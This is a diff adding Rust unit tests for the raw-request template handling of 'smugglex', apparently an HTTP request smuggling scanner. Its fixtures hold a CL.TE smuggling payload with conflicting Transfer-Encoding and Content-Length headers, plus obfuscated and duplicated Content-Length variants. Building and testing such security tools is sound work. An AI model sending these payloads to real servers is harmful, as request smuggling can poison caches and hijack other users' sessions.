@@ -0,0 +1,88 @@
+//! Tests for the raw_request module
+//!
+//! - Placement markers found in a template
+//! - Crafted headers moved to `{{TE}}` / `{{CL}}`
+//! - `{{BODY}}` wrapping the smuggling body with its Content-Length adjusted
+
+use smugglex::raw_request::{PlacementMarkers, parse_raw_request};
+
+/// A CL.TE payload as the generators lay it out: 6 body bytes framed by
+/// Content-Length.
+const PAYLOAD: &str = "POST /api HTTP/1.1\r\nHost: example.com\r\nConnection: keep-alive\r\nAuthorization: Bearer t\r\n{{TE}}\r\n{{CL}}\r\nTransfer-Encoding: chunked\r\nContent-Length: 6\r\n\r\n0\r\n\r\nG";
+
+fn header<'a>(request: &'a str, name: &str) -> Vec<&'a str> {
+    let head = request.split_once("\r\n\r\n").unwrap().0;
+    head.split("\r\n")
+        .filter(|line| line.to_ascii_lowercase().starts_with(name))
+        .collect()
+}
+
+#[test]
+fn test_parse_markers() {
+    let request = parse_raw_request(
+        "POST /api HTTP/1.1\r\nHost: example.com\r\n{{TE}}\r\n{{CL}}\r\n\r\n{\"a\":{{BODY}}}",
+    )
+    .unwrap();
+    let markers = request.markers.unwrap();
+    assert!(markers.te && markers.cl);
+    assert_eq!(markers.body, Some(("{\"a\":".to_string(), "}".to_string())));
+    assert!(
+        parse_raw_request("GET / HTTP/1.1\r\nHost: x\r\n\r\nbody")
+            .unwrap()
+            .markers
+            .is_none()
+    );
+}
+
+#[test]
+fn test_apply_moves_crafted_headers() {
+    let markers = PlacementMarkers {
+        te: true,
+        cl: true,
+        body: None,
+    };
+    let custom = vec![
+        "Authorization: Bearer t".to_string(),
+        "{{TE}}".to_string(),
+        "{{CL}}".to_string(),
+    ];
+    let applied = markers.apply(PAYLOAD, &custom, &[]);
+    assert!(applied.contains(
+        "Authorization: Bearer t\r\nTransfer-Encoding: chunked\r\nContent-Length: 6\r\n\r\n0\r\n\r\nG"
+    ));
+    assert!(!applied.contains("{{"));
+}
+
+#[test]
+fn test_apply_body_marker_adjusts_content_length() {
+    let markers = PlacementMarkers {
+        te: false,
+        cl: false,
+        body: Some(("{\"a\":".to_string(), "}".to_string())),
+    };
+    let payload = PAYLOAD.replace("{{TE}}\r\n{{CL}}\r\n", "");
+    let applied = markers.apply(&payload, &["Authorization: Bearer t".to_string()], &[]);
+    let body = applied.split_once("\r\n\r\n").unwrap().1;
+    assert_eq!(body, "{\"a\":0\r\n\r\nG}");
+    assert_eq!(header(&applied, "content-length"), ["Content-Length: 12"]);
+    assert_eq!(body.len(), 12);
+
+    // Obfuscated and repeated Content-Length values are all shifted.
+    let doubled = payload.replace(
+        "Content-Length: 6\r\n",
+        "Content-Length : 6\r\nContent-Length: 6, 6\r\n",
+    );
+    let applied = markers.apply(&doubled, &["Authorization: Bearer t".to_string()], &[]);
+    assert_eq!(
+        header(&applied, "content-length"),
+        ["Content-Length : 12", "Content-Length: 12, 12"]
+    );
+
+    // An empty wrapper changes nothing.
+    let bare = PlacementMarkers {
+        body: Some((String::new(), String::new())),
+        ..markers
+    };
+    let applied = bare.apply(&payload, &["Authorization: Bearer t".to_string()], &[]);
+    assert_eq!(header(&applied, "content-length"), ["Content-Length: 6"]);
+}